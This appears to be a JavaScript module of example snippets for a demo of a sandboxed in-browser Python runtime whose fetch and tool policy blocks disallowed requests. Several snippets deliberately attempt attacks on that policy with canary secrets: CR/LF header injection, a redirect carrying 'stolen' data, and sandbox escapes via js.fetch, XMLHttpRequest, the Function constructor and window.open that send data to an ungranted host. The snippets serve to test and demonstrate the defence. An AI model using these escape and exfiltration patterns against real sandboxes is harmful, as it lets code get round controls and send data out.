// The demo's example snippets. Each runs through the same runtime as anything typed into the
// editor. The "canary-d3m0-" strings stand for secrets: they go into URLs, headers and bodies,
// and must never show up in the diagnostics or the browser console.

/** Secrets in the examples all start with this, so a search for it finds any leak. */
export const CANARY = "canary-d3m0-";

/**
 * Run once after every runtime start. `attempt` turns one cx.fetch into a line of text.
 * @param {{api: string, other: string}} config
 */
export function prelude(config) {
  return `import sys
from urllib.parse import quote
from browser_rt import current_cx
from browser_rt.fetch import FetchDenied, FetchError

API = ${JSON.stringify(config.api)}      # the "api" server: granted by the demo policy
OTHER = ${JSON.stringify(config.other)}    # the "other" server: never granted

async def attempt(url, **options):
    """cx.fetch(url, **options), with the outcome as text instead of an exception."""
    try:
        r = await current_cx().fetch(url, **options)
    except FetchDenied as e:
        return f"denied: {e.reason}"
    except FetchError as e:
        return f"failed: {e.code}"
    return f"{r.status} {r.status_text}"
`;
}

/**
 * @typedef {object} Example
 * @property {string} id
 * @property {string} title
 * @property {string} note what to look for, in both modes
 * @property {string} code
 */

/** @type {Example[]} */
export const EXAMPLES = [
  {
    id: "allowed",
    title: "Allowed GET and POST",
    note: "Both are granted: two \"allow\" rows with status 200, and the api counter goes up (the Authorization and JSON headers also cost a CORS preflight each). The token, the query key and the body reach the server but not the diagnostics.",
    code: `# The demo policy grants GET and POST on API.
cx = current_cx()

r = await cx.fetch(f"{API}/items?page=1&api_key=canary-d3m0-query-key",
                   headers={"Authorization": "Bearer canary-d3m0-bearer-token"})
got = await r.json()
print("GET ", r.status, got)

r = await cx.fetch(f"{API}/items", method="POST",
                   headers={"Content-Type": "application/json"},
                   body='{"name": "demo", "secret": "canary-d3m0-post-body"}')
posted = await r.json()
print("POST", r.status, posted)

{"get": got, "post": posted}`,
  },
  {
    id: "denied-origin",
    title: "Denied origin",
    note: "OTHER is not granted: FetchDenied(origin_denied) is raised in Python before anything reaches JavaScript. The other counter stays at 0.",
    code: `# OTHER is not in the policy.
try:
    await current_cx().fetch(f"{OTHER}/collect?session=canary-d3m0-session")
    outcome = "reached OTHER"
except FetchDenied as e:
    outcome = f"FetchDenied: {e.reason}"

print(outcome)
outcome`,
  },
  {
    id: "method-escalation",
    title: "Method escalation",
    note: "Only GET and POST are granted. DELETE and PUT are denied (method_denied), TRACE is never allowed (method_forbidden), and a method-override header on a GET is refused (forbidden_header). No counter moves.",
    code: `# Asking for more than GET and POST, directly or through an override header.
{
    "DELETE": await attempt(f"{API}/items/1", method="DELETE"),
    "PUT": await attempt(f"{API}/items/1", method="PUT", body="{}"),
    "TRACE": await attempt(f"{API}/", method="TRACE"),
    "GET + X-HTTP-Method-Override": await attempt(
        f"{API}/items/1", headers={"X-HTTP-Method-Override": "DELETE"}),
}`,
  },
  {
    id: "credentials",
    title: "Credentials attempt",
    note: "The policy says credentials: \"omit\". Asking for cookies is denied (credentials_denied), and so is a password in the URL (userinfo_denied). The password never reaches the diagnostics.",
    code: `# Cookies and URL passwords are credentials too.
with_password = API.replace("http://", "http://admin:canary-d3m0-password@")
{
    'credentials="include"': await attempt(f"{API}/me", credentials="include"),
    'credentials="same-origin"': await attempt(f"{API}/me", credentials="same-origin"),
    "password in the URL": await attempt(f"{with_password}/me"),
}`,
  },
  {
    id: "header-flood",
    title: "Header flood",
    note: "max_header_count is 8: 40 headers are denied (header_count_exceeded), 8 are allowed (one preflight plus the GET reach api). A CR/LF in a value is refused (invalid_header).",
    code: `# 40 headers, then exactly the limit, then a header-injection attempt.
flood = [(f"X-Flood-{i}", "canary-d3m0-flood") for i in range(40)]
{
    "40 headers": await attempt(f"{API}/items", headers=flood),
    "8 headers": await attempt(f"{API}/items", headers=flood[:8]),
    "CR LF in a value": await attempt(
        f"{API}/items", headers={"X-Note": "ok\\r\\nX-Injected: canary-d3m0-crlf"}),
}`,
  },
  {
    id: "forbidden-header",
    title: "Forbidden header",
    note: "Headers the browser controls (Cookie, Host, Origin, Sec-*) are refused with forbidden_header instead of being dropped silently. No counter moves.",
    code: `# Headers that would let code impersonate the browser.
{
    "Cookie": await attempt(f"{API}/items", headers={"Cookie": "session=canary-d3m0-cookie"}),
    "Host": await attempt(f"{API}/items", headers={"Host": "internal.example"}),
    "Origin": await attempt(f"{API}/items", headers={"Origin": "https://trusted.example"}),
    "Sec-Fetch-Site": await attempt(f"{API}/items", headers={"Sec-Fetch-Site": "same-origin"}),
}`,
  },
  {
    id: "redirect",
    title: "Redirect to the other origin",
    note: "The request to api is allowed, api answers 302 to OTHER. With redirect: \"error\" the bridge fetches with redirect: \"manual\", so the hop is refused (redirect_denied) and the other counter stays at 0.",
    code: `# api redirects to OTHER; the policy says redirect: "error".
target = quote(f"{OTHER}/landing?stolen=canary-d3m0-redirect", safe="")
outcome = await attempt(f"{API}/redirect?to={target}")
print(outcome)
{"redirect": outcome}`,
  },
  {
    id: "timeout-cancel",
    title: "Timeout and cancellation",
    note: "The slow request fails with timeout after 0.5 s. Cancelling the task aborts the browser fetch: the api server marks /drip as aborted. Both show in the log as allowed with a failed outcome.",
    code: `import asyncio

# 1. The server sends its headers after 3 s; timeout=0.5 gives up first.
slow = await attempt(f"{API}/slow?ms=3000", timeout=0.5)

# 2. A body that trickles in for 8 s; cancel the task after 0.5 s.
task = asyncio.ensure_future(attempt(f"{API}/drip?ms=8000"))
await asyncio.sleep(0.5)
task.cancel()
try:
    await task
    cancelled = "finished (not cancelled)"
except asyncio.CancelledError:
    cancelled = "cancelled: the fetch was aborted"

{"timeout=0.5": slow, "cancelled task": cancelled}`,
  },
  {
    id: "too-large",
    title: "Response too large",
    note: "max_response_body_bytes is 64 KiB. A declared 200 kB body is refused from its Content-Length; an undeclared one is cut off while streaming. Both: response_too_large. 32 kB is fine.",
    code: `# The policy caps response bodies at 65536 bytes.
{
    "declared 200 kB": await attempt(f"{API}/big?bytes=200000"),
    "streamed 200 kB": await attempt(f"{API}/big?bytes=200000&declare=0"),
    "32 kB": await attempt(f"{API}/big?bytes=32768"),
}`,
  },
  {
    id: "escapes",
    title: "Ambient escape attempts",
    note: "None of these go through the authority, so the decision log stays empty: only the counters tell. Worker mode: all four are blocked (the network globals are gone, the worker CSP stops the Function constructor) and no counter moves. Page mode is not a sandbox: js.fetch to api with DELETE reaches the server around the policy; js.fetch and XMLHttpRequest to OTHER are stopped only by this page's CSP.",
    code: `# Code that ignores cx.fetch and reaches for the browser's own network.
import inspect
import js

async def escape(action):
    try:
        value = action()
        if inspect.isawaitable(value):
            value = await value
        return f"REACHED the server: HTTP {value.status}"
    except Exception as e:
        return f"blocked: {type(e).__name__}: {str(e)[:90]}"

async def via_xhr():
    import asyncio
    from pyodide.ffi import create_proxy
    done = asyncio.get_running_loop().create_future()
    xhr = js.XMLHttpRequest.new()
    on_load = create_proxy(lambda event: done.set_result(xhr))
    on_error = create_proxy(lambda event: done.set_exception(OSError("XMLHttpRequest network error")))
    xhr.onload, xhr.onerror = on_load, on_error
    xhr.open("POST", f"{OTHER}/xhr")
    xhr.send("canary-d3m0-xhr")
    try:
        return await done
    finally:
        on_load.destroy()
        on_error.destroy()

{
    "js.fetch(OTHER)": await escape(
        lambda: js.fetch(f"{OTHER}/js-fetch", method="POST", body="canary-d3m0-exfil")),
    "js.fetch(API, DELETE)": await escape(
        lambda: js.fetch(f"{API}/items/1", method="DELETE")),
    "XMLHttpRequest(OTHER)": await escape(via_xhr),
    "Function constructor": await escape(
        lambda: js.Object.constructor(f"return fetch('{OTHER}/function')")()),
}`,
  },
  {
    id: "existing-http",
    title: "Existing HTTP code: pyfetch",
    note: "Code written for Pyodide, not for browser_rt. Inside the runtime pyodide.http.pyfetch goes through the same authority as cx.fetch, in both modes: one allow row, then method_denied and origin_denied, raised as FetchDenied. Only the api counter moves, once.",
    code: `# pyodide.http.pyfetch, unchanged: browser_rt sends it through the current task's authority.
from pyodide.http import pyfetch

async def outcome(url, **options):
    try:
        r = await pyfetch(url, **options)
    except FetchDenied as e:
        return f"FetchDenied: {e.reason}"
    return f"{r.status} {r.status_text}"

{
    "pyfetch(API/items)": await outcome(f"{API}/items"),
    "pyfetch(API, DELETE)": await outcome(f"{API}/items/1", method="DELETE"),
    "pyfetch(OTHER, POST)": await outcome(
        f"{OTHER}/pyfetch", method="POST", body="canary-d3m0-pyfetch"),
}`,
  },
  {
    id: "navigation-escape",
    title: "Page mode: escape by navigation",
    note: "Opening a window is navigation, which no connect-src covers. Page mode: a popup opens on OTHER for a moment and the other counter goes up. Worker mode: a worker has no window.open.",
    code: `# window.open is not a fetch: the page CSP's connect-src does not cover it.
import asyncio
import js

try:
    popup = js.open(f"{OTHER}/opened-by-python", "_blank", "popup,width=360,height=240")
    if popup is None:
        outcome = "blocked by the browser's popup blocker"
    else:
        outcome = "REACHED the other server (a popup opened)"
        await asyncio.sleep(1.5)
        popup.close()
except AttributeError as e:
    outcome = f"blocked: AttributeError: {e}"

print(outcome)
outcome`,
  },
  {
    id: "agent",
    title: "Agent: a granted tool and one that is not",
    note: "The page grants one tool, \"search\" (site/tools.mjs). The call is an \"allow\" row whose outcome the page's own record fills in; \"send_email\" was never granted: ToolNotGranted in Python, a \"deny\" row, and nothing called. Argument values never reach the diagnostics.",
    code: `# Code a model wrote gets tools from the page, not the network.
from browser_rt.tools import ToolNotGranted
cx = current_cx()
print("granted:", sorted(cx.tools.names))

hits = await cx.tools.call("search", query="worker tools", limit=2)
print("search:", hits)

try:
    await cx.tools.call("send_email", to="someone@example.com", body="canary-d3m0-mail-body")
    outcome = "sent"
except ToolNotGranted as e:
    outcome = f"ToolNotGranted: {e.tool}"
print(outcome)

{"hits": hits, "send_email": outcome}`,
  },
  {
    id: "notes-survive-reload",
    title: "Notes survive a reload",
    note: "The demo grants persistent storage (namespace demo-notes, 1 MiB): /data is restored before any code runs and saved by the page at the end of every run. Run this, reload the page, run it again: the earlier notes are still there. The bridge record shows a storage flush row with the file count and bytes, never the contents.",
    code: `# /data is the page's grant: ordinary files, persisted by the page.
from datetime import datetime
from pathlib import Path

notes = Path("/data/notes.txt")
earlier = notes.read_text().splitlines() if notes.exists() else []
with notes.open("a") as f:
    f.write(f"note written at {datetime.now():%H:%M:%S}\\n")

print(f"{len(earlier)} note(s) from earlier runs or visits:")
print(notes.read_text(), end="")
len(earlier) + 1`,
  },
];
